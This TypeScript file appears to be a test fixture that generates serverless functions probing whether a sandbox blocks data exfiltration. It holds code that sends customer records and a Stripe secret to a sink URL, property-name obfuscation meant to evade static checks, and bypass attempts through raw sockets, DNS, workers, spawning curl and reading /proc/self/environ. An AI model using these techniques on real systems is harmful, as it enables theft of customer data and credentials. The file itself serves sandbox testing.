/** Code of a function that tries something, and says what became of it. @param top runs when the code is loaded */
export const functionThat = (attempt: string, { sink, top = '' }: { sink: string; top?: string }): string => `
const at = (way, data = '') => '${sink}/' + way + '?d=' + encodeURIComponent(data);
export const access = 'anyone';
${top}
export default async (request, context) => {
  try {
    const answer = await (async () => { ${attempt} })();
    return new Response('did ' + (answer instanceof Response ? answer.status : answer));
  } catch (error) {
    return new Response('failed ' + (error?.code ?? error?.message));
  }
};
`;

/** Ways of a function to carry rows and secrets out, by the name of the function. */
export const waysOut: Readonly<Record<string, string>> = {
  rows: `return fetch(at('rows', JSON.stringify(await context.service.entities.Customer.list())));`,
  post: `return fetch(at('post'), { method: 'POST', body: JSON.stringify(await context.service.entities.Customer.list()), keepalive: true });`,
  stream: `return fetch(new Request(at('stream'), { method: 'POST', body: new Blob([JSON.stringify(await context.service.entities.Customer.list())]).stream(), duplex: 'half' }));`,
  secret: `return fetch(at('secret', context.secrets.STRIPE_KEY));`,
  header: `return fetch(at('header'), { headers: { authorization: 'Bearer ' + context.secrets.STRIPE_KEY } });`,
  basic: `return fetch(at('basic'), { headers: { authorization: 'Basic ' + btoa('x:' + context.secrets.STRIPE_KEY) } });`,
  named: `const { STRIPE_KEY: key, ...others } = context.secrets; return fetch(at('named', key + JSON.stringify(others)));`,
  late: `return new Promise((done) => setTimeout(async () => done(await fetch(at('late', JSON.stringify(await context.service.entities.Customer.list()))).then(() => 'sent', (e) => e.code))));`,
};

/** The same with names that the code does not say, which get nothing to carry. */
export const hiddenWays: Readonly<Record<string, string>> = {
  computed: `return fetch(at('computed', JSON.stringify(await context['ser' + 'vice'].entities.Customer.list())));`,
  hidden: `return fetch(at('hidden', context['sec' + 'rets'].STRIPE_KEY));`,
  everything: `return fetch(at('everything', JSON.stringify(Object.values(context)) + (await context[Object.keys(context).find((each) => each.startsWith('serv'))].entities.Customer.list())[0].name));`,
};

/** Ways around the one way out, by the name of the function: each says which worked. */
export const sideWays = (port: number): Readonly<Record<string, string>> => {
  const ways = [
    `Deno.connect({ hostname: '127.0.0.1', port: ${port} })`,
    `Deno.connectTls({ hostname: '127.0.0.1', port: ${port} })`,
    `new Promise((open, fail) => Object.assign(new WebSocket(at('socket').replace('http', 'ws')), { onopen: open, onerror: fail }))`,
    `new Promise((open, fail) => Object.assign(new EventSource(at('events')), { onopen: open, onerror: fail }))`,
    `import(at('imported'))`,
    `new Promise((open, fail) => Object.assign(new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + at('worker') + '").then(() => postMessage(1), () => { throw 1; })'), { type: 'module' }), { onmessage: open, onerror: (event) => { event.preventDefault(); fail(event); } }))`,
    `import('node:http').then(({ get }) => new Promise((open, fail) => get(at('node'), open).on('error', fail)))`,
    `import('node:net').then(({ connect }) => new Promise((open, fail) => connect(${port}, '127.0.0.1', open).on('error', fail)))`,
    `import('node:dgram').then(({ createSocket }) => new Promise((open, fail) => createSocket('udp4').send('x', ${port}, '127.0.0.1', (error) => (error ? fail(error) : open()))))`,
    `import('node:dns/promises').then(({ lookup }) => lookup('rows.example.com'))`,
    `Deno.resolveDns('rows.example.com', 'A')`,
    `new Deno.Command('curl', { args: [at('command')] }).output()`,
    `import('node:child_process').then(({ execSync }) => execSync('curl ' + at('child')))`,
    `Deno.readTextFile('/proc/self/environ')`,
  ];
  const each = (way: string) => `try { await (${way}); return 'worked'; } catch { return 'failed'; }`;
  return Object.fromEntries(ways.map((way, index) => [`around${index}`, each(way)]));
};
